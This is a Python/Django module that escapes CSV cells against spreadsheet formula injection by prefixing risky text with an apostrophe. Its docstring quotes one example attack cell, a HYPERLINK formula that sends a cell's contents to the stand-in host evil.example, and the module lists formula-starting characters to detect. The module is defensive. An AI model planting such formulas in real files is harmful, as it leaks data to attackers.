"""Every CSV Tribune writes goes through here, so no cell runs as a spreadsheet formula.

Member names, statements and import rows are typed by anyone; a cell such as
``=HYPERLINK("https://evil.example/?"&A2, "click")`` or ``@SUM(...)`` in a
CSV is run by Excel, LibreOffice or Google Sheets when an officer opens the
file (CSV or "formula" injection). A cell whose text starts with a character
that begins a formula is written with a leading apostrophe, which
spreadsheets show as text and do not evaluate (OWASP's advice). Numbers are
left as numbers; only text is changed, so a negative number stays a number.

Use ``writer``/``dict_writer`` (or ``csv_response`` for a download) instead
of ``csv.writer``: a test fails on any ``csv.writer`` elsewhere in Tribune.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from django.http import HttpResponse

# = + - @ start a formula; a tab or carriage return before them is skipped by
# some spreadsheets. The full-width forms are read as formulas in some locales.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it, never run it: text that could start a formula
    gets a leading apostrophe; anything else (numbers, ``None``) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, stream: Any, **options: Any):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` with every value (and the header) passed through ``safe_cell``."""

    def writeheader(self) -> Any:
        return self.writer.writerow([safe_cell(name) for name in self.fieldnames])

    def _dict_to_list(self, rowdict: Mapping[str, Any]) -> list[Any]:
        return [safe_cell(cell) for cell in super()._dict_to_list(rowdict)]


def writer(stream: Any, **options: Any) -> _SafeWriter:
    return _SafeWriter(stream, **options)


def dict_writer(stream: Any, fieldnames: Sequence[str], **options: Any) -> csv.DictWriter:
    return _SafeDictWriter(stream, fieldnames, **options)


def to_csv(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    buffer = io.StringIO()
    out = writer(buffer)
    out.writerow(header)
    out.writerows(rows)
    return buffer.getvalue()


def csv_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """A CSV download; the byte-order mark makes Excel read it as UTF-8."""
    response = HttpResponse("\ufeff" + to_csv(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
